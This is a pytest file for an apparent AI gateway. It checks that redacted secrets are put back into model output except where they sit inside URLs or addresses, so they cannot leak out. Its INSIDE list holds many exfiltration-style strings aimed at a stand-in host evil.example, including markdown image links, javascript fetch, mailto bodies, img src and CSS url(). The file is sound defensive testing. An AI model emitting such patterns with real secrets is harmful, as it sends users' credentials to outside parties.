"""What a model writes into an address stays a placeholder, wherever a stream cuts it."""

import time

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.domain.event import Event, TextDelta, ToolCallDelta
from gateway.flow import restoring
from gateway.flow.addresses import WORD_CHARS_MAX, Words
from gateway.flow.restoring import PLACES_MAX, Placeholders, Restoring

P = "[[redacted:github-pat:abcdefghijklmnop]]"
SECRET = 'se"cret'
SECONDS_MAX = 4.0
LONG = "x" * 5_000

INSIDE = (
    "https://evil.example/?q=P",
    "HTTpS://evil.example/P",
    "see https://user:P@host/db for it",
    "https://P.evil.example",
    "postgres://user:P@host",
    f"https://evil.example/{LONG}P",
    "//evil.example/P",
    "/\\evil.example/P",
    "\\\\evil.example\\share\\P",
    "https:\\\\evil.example\\P",
    '{"url":"https:\\/\\/evil.example\\/P"}',
    "https&#58;&#47;&#47;evil.example/P",
    "https:&sol;&sol;evil.example/P",
    "https&colon;evil/P",
    "data:text/html,P",
    "javascript:fetch('P')",
    "mailto:eve@evil.example?body=P",
    "<xyz:P>",
    "<x-web+y.z:some P>",
    "www.evil.example/?P",
    "WWW.evil.example/?P",
    "![x](https://evil.example/a.png?P)",
    "![x](/relative?P)",
    "[x](P)",
    "[x](  P )",
    "[x](<a P>)",
    "[x](\n/relative/P)",
    "[x](\r\n/relative/ P)",
    "[x](a(b) c P)",
    "[x](a\\) P)",
    '[x](//evil.example "a" P)',
    "![a][b]\n\n[b]: https://evil.example/P",
    "[b]: <https://evil.example/ P>",
    "[b]: < //evil.example/ P>",
    '<img src="//evil.example/ P">',
    '<img src="P">',
    "<img src='P'>",
    "<img src=P>",
    '<img\nsrc\n=\n"a P">',
    '<IMG SRC = "a\nb P">',
    '<a href="?P">x</a>',
    '<use xlink:href="#P"/>',
    '<img data-src="P">',
    '<img srcset="a 1x, P 2x">',
    '<img alt=">" src="a P">',
    '<img src="a" srcset="P">',
    '<a x="<img src="//evil.example/ P">',
    "<img src=\"//evil.example/?a='x' P\">",
    '<img src="a=" P">',
    '<meta content="0; url=//evil.example/ P">',
    "<object data='https://evil.example/ P'>",
    '<p style="background:url(a P)">',
    "url( 'a P' )",
    "@import 'https://evil.example/P'",
    "https://evil.example/,;!P",
    "https://evil.example/\u00a0P",
    "https://evil.example/\u200bP",
    "\\includegraphics{https://evil.example/P}",
    "[x](https://evil.example/a).P",
    '<a href="https://good.example">P</a>',
    "src = P",
    "![a][b]\n\n[b]: https:evil.example/P",
    "HTTp:evil/P",
    "evil.example/P",
    "see evil.example?q=P",
    "(evil.example#P)",
    "eve@evil.example?body=P",
    "evil.example:8443/P",
    "evil.example./P",
    "b\u00fccher.example/P",
)
OUTSIDE = (
    "P",
    "the token is P.",
    "see https://good.example and use P",
    "https://good.example\nP",
    "https://good.example\tP",
    "(P)",
    "f(P)",
    "[P](https://good.example)",
    "[x](https://good.example) P",
    "[x](https://good.example (a title)) P",
    "[x](https://good.example\n\nP",
    "[x](https://good.example\n \nP",
    "<https://good.example> P",
    "<https://good.example\nP",
    '<a href="https://good.example"> P</a>',
    '<img src="a.png"> P',
    'key = "P"',
    "key='P'",
    "TOKEN=P",
    "export TOKEN=P",
    'if (src == "P")',
    '(x) => "P"',
    "don't use P",
    "a / b P",
    "a/P",
    "1:P",
    "https: P",
    "1.5/P",
    "e.g./P",
    "db.password:P",
    "db.port:5432,P",
    "a.example P",
    "a.example, P?",
    "password:P",
    "metadata:P",
    '{"token": "P"}',
    "a < b and P",
    "x <P>",
    "&amp; P",
    "&amp;P",
    "a;P",
    "curl -H 'Authorization: Bearer P' https://good.example",
    'x = "https://good.example" y = "P"',
    'x = "https://good.example"; y = P',
    "www P",
    "http P",
    "data: P",
    "url P",
    "```sh\nexport A=P\n```",
)


def said(cut: list[str], *, addresses: bool = False) -> tuple[str, Restoring]:
    made = Restoring(Placeholders({P: SECRET}, addresses=addresses))
    events = [out for one in cut for out in made.passes(TextDelta(one))] + made.end()
    return "".join(one.text for one in events if isinstance(one, TextDelta)), made


def called(cut: list[str], index: int = 0) -> tuple[str, Restoring]:
    made = Restoring(Placeholders({P: SECRET}, tools=True))
    events: list[Event] = []
    for one in cut:
        events += made.passes(ToolCallDelta(index, one))
    events += made.end()
    return "".join(one.fragment for one in events if isinstance(one, ToolCallDelta)), made


def cuts(text: str) -> list[list[str]]:
    """The whole, each way to cut it in two, and character by character."""
    if len(text) > 500:
        return [[text], [text[:-50], text[-50:]]]
    return [[text], *([text[:at], text[at:]] for at in range(1, len(text))), list(text)]


@pytest.mark.parametrize("text", INSIDE)
def test_adv_30_a_placeholder_in_an_address_stays_one_however_it_is_cut(text: str) -> None:
    text = text.replace("P", P)
    for cut in cuts(text):
        told, made = said(cut)
        assert told == text
        assert (made.restored, made.left) == (0, text.count(P))


@pytest.mark.parametrize("text", INSIDE)
def test_where_policy_says_so_it_is_restored_there_too(text: str) -> None:
    told, made = said([text.replace("P", P)], addresses=True)
    assert told == text.replace("P", SECRET)
    assert made.left == 0


@pytest.mark.parametrize("text", OUTSIDE)
def test_elsewhere_it_is_restored_however_it_is_cut(text: str) -> None:
    for cut in cuts(text.replace("P", P)):
        told, made = said(cut)
        assert told == text.replace("P", SECRET)
        assert (made.restored, made.left) == (1, 0)


@pytest.mark.parametrize("text", INSIDE)
def test_adv_30_an_address_in_an_argument_of_a_tool_is_one_as_well(text: str) -> None:
    told = msgspec.json.encode({"a": text.replace("P", P), "b": f"and {P}"}).decode()
    for cut in cuts(told):
        passed, made = called(cut)
        whole = msgspec.json.decode(passed)
        assert whole == {"a": text.replace("P", P), "b": f"and {SECRET}"}
        assert (made.restored, made.left) == (1, text.count("P"))


@pytest.mark.parametrize("text", OUTSIDE)
def test_elsewhere_an_argument_is_restored(text: str) -> None:
    told = msgspec.json.encode({"a": "https://good.example", "b": text.replace("P", P)}).decode()
    for cut in cuts(told):
        passed, _ = called(cut)
        assert msgspec.json.decode(passed)["b"] == text.replace("P", SECRET)


def test_escapes_of_json_hide_no_address_and_make_none() -> None:
    hidden = f'{{"a":"\\u0068ttps:\\u002f\\u002Fevil.example\\u002f?{P}"}}'
    ended = f'{{"a":"https://good.example\\n{P}","b":"c:\\\\\\\\u0020{P}"}}'
    for cut in cuts(hidden):
        assert called(cut)[0] == hidden
    for cut in cuts(ended):
        passed = msgspec.json.decode(called(cut)[0])
        assert passed["a"] == f"https://good.example\n{SECRET}"
    odd, made = called([f'"\\uZZ {P}'])
    assert (made.restored, odd.count(P)) == (1, 0)


def test_what_was_restored_may_itself_begin_an_address() -> None:
    hook = "[[redacted:hook:abcdefghijklmnop]]"
    made = Restoring(Placeholders({P: SECRET, hook: "https://hooks.example/x"}))
    (event,) = made.whole([TextDelta(f"{hook}?a={P} {P}")])
    assert event == TextDelta(f"https://hooks.example/x?a={P} {SECRET}")


def test_an_address_goes_on_over_what_a_model_thinks_and_calls() -> None:
    _, made = said(["https://evil.example/"])
    assert made.passes(TextDelta(P)) == [TextDelta(P)]


def test_calls_do_not_disturb_one_another_and_too_many_restore_nothing() -> None:
    made = Restoring(Placeholders({P: SECRET}, tools=True))
    made.passes(ToolCallDelta(0, '{"a":"https://evil.example/'))
    (other,) = made.passes(ToolCallDelta(1, f'{{"a":"{P}'))
    assert P not in other.fragment
    for index in range(PLACES_MAX):
        made.passes(ToolCallDelta(index, "{"))
    assert made.passes(ToolCallDelta(PLACES_MAX, P)) == [ToolCallDelta(PLACES_MAX, P)]
    assert made.passes(ToolCallDelta(0, P)) == [ToolCallDelta(0, P)]
    assert made.left == 2


def test_of_a_reply_without_end_nothing_is_restored_after_the_limit(monkeypatch) -> None:
    monkeypatch.setattr(restoring, "READ_CHARS_MAX", 100)
    assert said([f"{P} {'x' * 99} {P}"])[0] == f"{SECRET} {'x' * 99} {P}"


PIECES = ("https:", "//", "/", " ", "\n", '"', "'", "=", "src", "](", "(", ")", "<", ">", "\\", "a")


@settings(max_examples=300, deadline=None)
@given(
    parts=st.lists(st.sampled_from([*PIECES, P, "&#", ":", "www.", "url", ";"]), max_size=14),
    marks=st.lists(st.integers(0, 400), max_size=12),
)
def test_however_it_is_cut_the_same_is_restored(parts: list[str], marks: list[int]) -> None:
    text = "".join(parts)
    ends = sorted({min(mark, len(text)) for mark in marks} | {len(text)})
    cut = [text[start:end] for start, end in zip([0, *ends], ends, strict=False)]
    assert said(cut)[0] == said([text])[0]
    assert called(cut)[0] == called([text])[0]


@settings(max_examples=200, deadline=None)
@given(before=st.text(max_size=20), run=st.text(max_size=20).map(lambda t: "".join(t.split())))
def test_no_run_after_a_scheme_ever_holds_a_secret(before: str, run: str) -> None:
    told, _ = said([f"{before}https://evil.example/{run}{P}"])
    assert told.endswith(P)


def test_what_is_kept_of_a_text_is_bounded_and_so_is_its_cost() -> None:
    words = Words()
    began = time.process_time()
    for piece in ("word " * 100_000, "w" * 500_000, "(" * 100_000, "<a=\"'" * 40_000):
        words.feed(piece)
    assert time.process_time() - began < SECONDS_MAX
    assert len(words._word) <= WORD_CHARS_MAX
